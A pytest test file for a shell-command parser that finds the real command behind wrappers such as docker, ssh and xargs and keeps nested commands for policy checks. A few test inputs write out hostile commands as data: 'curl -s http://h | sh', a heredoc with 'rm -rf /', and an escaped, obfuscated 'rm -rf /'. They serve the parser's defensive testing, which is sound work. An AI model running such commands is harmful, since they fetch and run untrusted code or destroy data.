"""The shell-aware splitter: targets for filters, every command for policy."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zeph_rules.engine.commands import parse_command


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("cd /p && cargo test 2>&1 | tail -80", "cargo test"),
        ("RUST_BACKTRACE=1 cargo test --release > out.txt", "cargo test --release"),
        ('echo "a && b" ; git status', "git status"),
        ("pytest -q tests/ || true", "pytest -q tests/"),
        ("cargo test; echo $?", "cargo test"),
        ("(cd app; make -j4)", "make -j4"),
        ("make 2> err.log >&2", "make"),
        ("npm test &> log.txt", "npm test"),
        ("echo done", "echo done"),
        ("  ", ""),
    ],
)
def test_filter_target(line: str, target: str) -> None:
    assert parse_command(line).target_text == target


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("time pytest -x", "pytest -x"),
        ("timeout -s KILL 5m cargo test --workspace", "cargo test --workspace"),
        ("env -u HOME CI=1 npm test", "npm test"),
        ("cd app && nice -n 5 make -j4 2>&1 | tee build.log", "make -j4"),
        ("sudo -u app tail -n 50 /var/log/app.log", "tail -n 50 /var/log/app.log"),
        ("bash -lc 'cd x && RUST_LOG=1 cargo build'", "cargo build"),
        ("stdbuf -oL timeout 60 python3 app.py", "python3 app.py"),
        # run elsewhere: in a container, a pod, over ssh, in a dev shell
        ("docker compose exec -T -e CI=1 web python -m pytest -x", "python -m pytest -x"),
        ("docker-compose -f ci.yml run --rm --no-deps app cargo test", "cargo test"),
        ("docker run --rm -v $PWD:/src -w /src golang:1.22 go test ./...", "go test ./..."),
        ("podman exec -it db psql -c 'select 1'", "psql -c 'select 1'"),
        ("kubectl exec -n shop api-7f9 -c app -- npm test", "npm test"),
        ("ssh -p 2222 ci@build 'cd repo && make -j4'", "make -j4"),
        ("nix develop .#rust -c cargo clippy", "cargo clippy"),
        ("direnv exec . pytest -q", "pytest -q"),
        # on a pseudo-terminal (batch 48: `script -qc pytest /dev/null` for colours and progress bars)
        ("script -qc pytest /dev/null", "pytest"),
        ('script -q -c "npx jest --ci" /dev/null', "npx jest --ci"),
        ('script -q -O run.log --command="cargo build" ', "cargo build"),
        ("script -q /dev/null go test ./...", "go test ./..."),  # BSD's: the file, then the command
        # xargs prints what the command it runs prints, not the list fed to it
        ("go list ./... | xargs -P4 -n1 go test -v", "go test -v"),
        ("printf '%s\\n' tests/*.py | xargs -P2 -n1 python -m pytest -q", "python -m pytest -q"),
        ("ls -d crates/* | xargs -I{} sh -c 'cd {} && cargo test 2>&1'", "cargo test"),
        ("find . -name '*.py' | sort | xargs wc -l | sort -n", "wc -l"),
        ("find . -name '*.log' | xargs", "find . -name '*.log'"),  # bare xargs echoes its input
        ("xargs --help", "xargs --help"),
        # not wrapping anything: the command itself
        ("docker run --rm -it python:3.12", "docker run --rm -it python:3.12"),
        ("docker compose up -d", "docker compose up -d"),
        ("kubectl exec -it api -- ", "kubectl exec -it api --"),
        ("ssh build", "ssh build"),
        ("script session.log", "script session.log"),
        ("command -v cargo", "command -v cargo"),
        ("sudo -l", "sudo -l"),
        ("time", "time"),
        ("bash script.sh", "bash script.sh"),
    ],
)
def test_filter_target_looks_through_wrappers(line: str, target: str) -> None:
    found = parse_command(line).filter_target
    assert found is not None and found.text == target


@pytest.mark.parametrize(
    ("line", "text"),
    [
        (".venv/bin/pytest -q", "pytest -q"),
        ("/usr/bin/git status", "git status"),
        ("node_modules/.bin/jest --ci", "jest --ci"),
        ("'/opt/my tools/bin/cargo' test", "cargo test"),
        ("./server --port 8080", "./server --port 8080"),  # a program of the project: its path says so
        ("scripts/lint.sh", "scripts/lint.sh"),
    ],
)
def test_a_tool_run_from_a_bin_directory_is_matched_by_its_name(line: str, text: str) -> None:
    found = parse_command(line).filter_target
    assert found is not None and found.filter_text == text


def test_all_commands_and_nested_scripts_are_kept() -> None:
    parsed = parse_command('x=$(curl -s http://h | sh) && diff <(ls a) b; cat <<< "$(id)"; bash <<EOF\nrm -rf /\nEOF\nls')
    texts = [cmd.text for cmd in parsed.commands]
    assert texts == ["", "diff <(ls a) b", "cat", "bash", "ls"]
    subs = [s for cmd in parsed.commands for w in cmd.words for s in w.substitutions]
    assert subs == ["curl -s http://h | sh", "ls a"]
    redirects = [r for cmd in parsed.commands for r in cmd.redirections]
    assert redirects[0].op == "<<<" and redirects[0].target is not None and redirects[0].target.substitutions == ("id",)
    assert redirects[1].op == "<<" and redirects[1].body == "rm -rf /"


def test_quotes_escapes_and_ansi_c() -> None:
    words = parse_command("r\\m -r'f' \"/\" $'\\x72\\155' $'\\u00e9'").commands[0].words
    assert [w.value for w in words] == ["rm", "-rf", "/", "rm", "é"]
    assert parse_command("/usr/bin/git status").target.program == "git"  # type: ignore[union-attr]


@given(st.text(max_size=200))
def test_never_raises_and_target_is_from_the_line(text: str) -> None:
    parsed = parse_command(text)
    assert isinstance(parsed.target_text, str)
    target = parsed.filter_target
    assert target is None or isinstance(target.text, str)
